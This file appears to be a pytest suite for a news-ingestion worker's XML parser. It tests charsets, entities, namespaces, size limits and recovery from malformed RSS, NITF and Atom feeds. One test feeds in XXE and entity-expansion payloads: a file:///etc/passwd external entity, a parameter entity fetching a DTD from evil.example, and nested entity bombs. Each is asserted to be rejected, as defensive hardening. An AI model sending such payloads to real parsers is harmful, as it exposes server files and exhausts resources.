"""XML as strangers send it: charsets that lie, DTDs, entities, broken tags, floods; and what is said of it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pattern_timing import Pattern, grows_faster_than_its_text

from worker.article import Article, Flag
from worker.knowledge.loading import load
from worker.markup import balance, xml
from worker.markup.balance import balanced
from worker.markup.xml import Tree, find_line, line_of, namespace_key, read_xml
from worker.model import Document, Hints, Limits, RawMessage, Reason, Rejected
from worker.pipeline import process

KNOWLEDGE = load()
RSS = (
    "<rss version='2.0'><channel><title>Blåtinden</title><item><guid>urn:x:1</guid>"
    "<title>Fjäll – “snö” €</title><description>Åska över Jämtland.</description></item></channel></rss>"
)
NITF = (
    "<nitf><head><docdata><doc-id id-string='x1'/></docdata></head><body><body.head><hedline><hl1>Fjäll – “snö” €</hl1>"
    "</hedline></body.head><body.content><p>Åska över Jämtland.</p></body.content></body></nitf>"
)
RITZAU = (
    "<RBNews><NewsID>a1</NewsID><headline>Fjäll – “snö” €</headline>"
    "<content>&lt;p&gt;Åska över Jämtland.&lt;/p&gt;</content></RBNews>"
)
ATOM = (
    "<feed xmlns='http://www.w3.org/2005/Atom'><entry><id>urn:x:1</id><title>Fjäll – “snö” €</title>"
    "<content type='text'>Åska över Jämtland.</content></entry></feed>"
)


def _read(text: str, limits: Limits | None = None) -> Tree:
    return read_xml(Document(data=text.encode("utf-8", "replace"), text=text, format="rss"), limits or Limits())


def _articles(payload: bytes, name: str | None = None) -> list[Article]:
    raw = RawMessage(topic="t", partition=0, offset=0, timestamp_ms=1715947200000, value=payload)
    return process(raw, KNOWLEDGE, Hints(format=name))


@pytest.mark.parametrize("document", [RSS, NITF, RITZAU, ATOM], ids=["rss", "nitf", "ritzau_xml", "atom"])
@pytest.mark.parametrize(
    ("prolog", "charset"),
    [
        ("", "utf-8"),
        ("", "utf-8-sig"),
        ("\n\n  <?xml version='1.0'?>", "utf-8"),
        ("\n<?xml version='1.0'?>\n", "utf-8-sig"),
        ("<?xml version='1.0' encoding='iso-8859-1'?>", "utf-8"),
        ("<?xml version='1.0' encoding='utf-16'?>", "utf-8"),
        ("<?xml version='1.0' encoding='utf8'?>", "utf-8"),
        ("<?xml version='1.0' encoding='UTF-8'?>", "windows-1252"),
        ("<?xml version='1.0' encoding='no-such'?>", "utf-8"),
        ("<?xml version='1.0' encoding='windows-1252'?>", "windows-1252"),
        ("<?xml version='1.0' encoding='iso-8859-1'?>", "windows-1252"),
        ("", "windows-1252"),
        ("<?xml version='1.0' encoding='utf-16'?>", "utf-16"),
        ("", "utf-16-le"),
        ("", "utf-16-be"),
        ("<?xml version='1.0'?><!DOCTYPE x SYSTEM 'https://dtd.example/x.dtd'>", "utf-8"),
    ],
)
def test_every_encoding_gives_the_same_words(document: str, prolog: str, charset: str) -> None:
    """True, lying, missing and misspelt declarations, byte-order marks, blanks before the declaration."""
    (article,) = _articles(f"{prolog}{document}".encode(charset))
    assert (article.headline, article.body[0].text) == ("Fjäll – “snö” €", "Åska över Jämtland.")
    assert Flag.XML_RECOVERED not in article.flags


def test_iso_8859_15_has_the_euro_sign() -> None:
    """Its euro sign stands where windows-1252 has the currency sign."""
    document = RSS.replace("–", "-").replace("“", "'").replace("”", "'")
    (article,) = _articles(f"<?xml version='1.0' encoding='iso-8859-15'?>{document}".encode("iso-8859-15"))
    assert article.headline == "Fjäll - 'snö' €"


@pytest.mark.parametrize(
    "subset",
    [
        '<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p; <!ENTITY a "x">',
        "<!ELEMENT rss ANY>",
    ],
)
def test_entities_of_strangers_are_refused(subset: str) -> None:
    """Whatever they would grow to or read."""
    with pytest.raises(Rejected) as caught:
        _articles(f"<!DOCTYPE rss [{subset}]>{RSS.replace('Åska', '&c;&a;')}".encode())
    assert caught.value.reason is Reason.PARSE_ERROR


def test_a_late_doctype_defines_nothing() -> None:
    """One that stands behind thousands of blanks or comments is no DOCTYPE that libxml2 may read either."""
    bomb = f"<!-- {'x' * 5000} --><!DOCTYPE rss [<!ENTITY a 'BOOM'>]><rss><title>&a;</title></rss>"
    with pytest.raises(Rejected):
        _read(bomb)


@pytest.mark.parametrize(
    ("inside", "words"),
    [
        ("a&nbsp;b &eacute;t&eacute; &mdash; &hellip;", "a b été — …"),
        ("AT&T & Co &amp; &lt;x&gt;", "AT&T & Co & <x>"),
        ("x &nosuch; y &;", "x &nosuch; y &;"),
        ("a&#2;b&#xB;c&#xD800;d&#233;", "abcdé"),
        ("before<!-- out -->behind", "beforebehind"),
        ("before<?page break?>behind", "beforebehind"),
        ("a<![CDATA[<b> & ]]>c", "a<b> & c"),
        ("a <b>b</b> c <i>d<!-- x --> e</i> f", "a b c d e f"),
        ("a<br>b <hr> c", "ab c"),
    ],
)
def test_text_of_every_kind_is_whole(inside: str, words: str) -> None:
    """Entities of HTML, bare ampersands, bad references, comments, instructions, CDATA: nothing is lost."""
    tree = _read(f"<a><t>{inside}</t></a>")
    assert (find_line(tree.root, "t"), tree.recovered) == (words, False)


def test_control_characters_are_gone() -> None:
    """The envelope takes them out before XML is read."""
    (article,) = _articles(RSS.replace("Åska", "Å\x01ska\x0b").encode())
    assert "Å" in article.body[0].text
    assert "\x01" not in article.body[0].text


@pytest.mark.parametrize(
    "root",
    ["<n:a xmlns:n='urn:n'>{}</n:a>", "<a xmlns='urn:x'>{}</a>", "<a>{}</a>", "<n:a>{}</n:a>"],
)
def test_namespaces_do_not_matter(root: str) -> None:
    """Right, other, missing and undeclared prefixes: names are local, and nothing was lost."""
    tree = _read(root.format("<m:t>words</m:t>"))
    assert (tree.root.tag, find_line(tree.root, "t"), tree.recovered) == ("a", "words", False)


def test_names_are_kept_apart_on_demand() -> None:
    """Only the root's namespace, the given ones and none are dropped."""
    text = "<a xmlns='urn:a' xmlns:m='urn:m' xmlns:k='http://K.example/'><t>1</t><m:t>2</m:t><k:t>3</k:t></a>"
    document = Document(data=b"", text=text, format="rss")
    tags = [element.tag for element in read_xml(document, Limits(), {"k.example"}).root]
    assert tags == ["t", "{urn:m}t", "t"]


@pytest.mark.parametrize("name", ["n:", "n:9", "9:", "n:-x"])
@pytest.mark.parametrize("local", [None, {"u"}])
def test_what_leaves_no_name_without_its_prefix_keeps_it(name: str, local: set[str] | None) -> None:
    """Recovery lets such tags through: the elements around them are read as ever."""
    text = f"<n:nitf><n:body><{name}>odd</{name}><n:p>sound</n:p></n:body></n:nitf>"
    tree = read_xml(Document(data=b"", text=text, format="nitf"), Limits(), local)
    assert find_line(tree.root, ".//p") == "sound"


@pytest.mark.parametrize("spelling", ["http://search.yahoo.com/mrss", "https://Search.Yahoo.com/mrss/"])
def test_spellings_of_a_namespace(spelling: str) -> None:
    """Scheme, case and the final slash do not matter."""
    assert namespace_key(spelling) == "search.yahoo.com/mrss"


def test_depth_has_an_end() -> None:
    """300 levels are refused by name, in well-formed and in broken documents."""
    for text in ("<a>" * 300 + "x" + "</a>" * 300, "<a>" * 300 + "x"):
        with pytest.raises(Rejected) as caught:
            _read(text)
        assert caught.value.reason is Reason.TOO_LARGE


def test_floods_are_refused() -> None:
    """More tags than the limit."""
    with pytest.raises(Rejected) as caught:
        _read(f"<a>{'<b/>' * 20}</a>", Limits(markup_max_tags=10))
    assert caught.value.reason is Reason.TOO_LARGE


@pytest.mark.parametrize("text", ["", "words", "<", "<>", "< a>", "<!-- x", "<![CDATA[x"])
def test_no_xml_at_all(text: str) -> None:
    """A reason instead of an empty tree."""
    with pytest.raises(Rejected) as caught:
        _read(text)
    assert caught.value.reason is Reason.PARSE_ERROR


def test_a_lost_end_tag_swallows_nothing() -> None:
    """The parent's end tag closes it; stray end tags are dropped."""
    tree = _read("<r><i><t>one <x>mark</t><d>first</d></i></y><i><t>two</t><d>second</d></i></r>")
    assert [(find_line(item, "t"), find_line(item, "d")) for item in tree.root] == [
        ("one mark", "first"),
        ("two", "second"),
    ]
    assert tree.flags() == (Flag.XML_RECOVERED,)


@pytest.mark.parametrize(
    "tail", ["<d>half of", "<d>half of <b", "<d><![CDATA[half of", "<d>half of<!-- no", "<d>half of</"]
)
def test_what_breaks_off_is_known(tail: str) -> None:
    """The open item is cut and says so; the whole one beside it is not."""
    tree = _read(f"<r><i><t>one</t></i><i><t>two</t>{tail}")
    first, second = list(tree.root)
    assert find_line(second, "d") == "half of"
    assert tree.flags(first) == (Flag.XML_RECOVERED,)
    assert tree.flags(second) == tree.flags() == (Flag.XML_RECOVERED, Flag.TRUNCATED)


def test_sound_documents_say_nothing() -> None:
    """No flags."""
    assert _read("<a/>").flags() == ()


def test_line_of() -> None:
    """None for an absent or empty element."""
    assert line_of(None) is None
    assert line_of(_read("<a> \n </a>").root) is None


@given(st.lists(st.sampled_from(["<a>", "</a>", "<b x='1'>", "</b>", "<c/>", "w", "<!-- </a> -->", "<![CDATA[<a>]]>"])))
def test_balanced_text_is_well_formed(pieces: list[str]) -> None:
    """Whatever tags come in whatever order: strict parsers read the result, and no word is lost."""
    text, _ = balanced("<r>" + "".join(pieces))
    tree = _read(text)
    assert not tree.recovered
    assert (line_of(tree.root) or "").replace("<a>", "").count("w") == pieces.count("w")


@pytest.mark.parametrize("pattern", [balance._PIECE, xml._VOID, xml._NAMED, xml._BARE, xml._BAD_REFERENCE, xml._BEFORE])
def test_patterns_are_linear(pattern: Pattern) -> None:
    """100 kB of the worst that repeats; what stands before the root is only ever matched."""
    tags = ("<a>", "</a>", "<a", "<", "<![CDATA[", "<!--", "-", "]", '<a b="', "<br", "<br ")
    pieces = (*tags, "<!DOCTYPE ", "<!ENTITY % ", "&", "&a", "&#", "\n")
    assert grows_faster_than_its_text(pattern, pieces, 100_000, searched=pattern is not xml._BEFORE) is None
